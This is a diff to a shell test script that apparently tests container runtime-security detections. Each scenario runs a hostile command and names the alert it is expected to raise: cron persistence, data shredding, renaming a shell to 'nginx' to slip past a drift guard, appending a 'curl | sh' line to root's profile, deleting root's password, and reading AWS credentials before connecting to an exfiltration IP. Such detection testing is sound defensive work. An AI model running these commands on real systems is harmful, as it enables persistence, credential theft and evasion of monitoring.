@@ -129,6 +129,16 @@ scenario cron "" 'mkdir -p /etc/cron.d && echo "* * * * * root /tmp/x" >/etc/cro
 	"Cron job written"
 scenario shred "" 'echo data >/tmp/f && shred -u /tmp/f' \
 	"Bulk data destruction"
+# a server that runs a command through a shell (system()): the container's shell renamed
+# to nginx (an image program, so that a drift guard of another agent cannot stop it)
+scenario server "" 'printf nginx >/proc/self/comm && /bin/sh -c id >/dev/null; true' \
+	"Shell spawned by a server"
+scenario shellrc "" 'echo "curl -s x | sh" >>/root/.profile' \
+	"Shell configuration modified"
+scenario usermgmt "" 'passwd -d root >/dev/null 2>&1; true' \
+	"User account changed in container;Write below /etc in container"
+scenario devfile "" 'echo payload >/dev/.cache' \
+	"File created below /dev"
 scenario exfil "--network host -v $ATTACK:/attack:ro" "mkdir -p /root/.aws && echo k >/root/.aws/credentials && cat /root/.aws/credentials >/dev/null && /attack connect $EXFIL_IP $((PORT + 1))" \
 	"Sensitive file read by unexpected program;Sensitive read then egress"
 
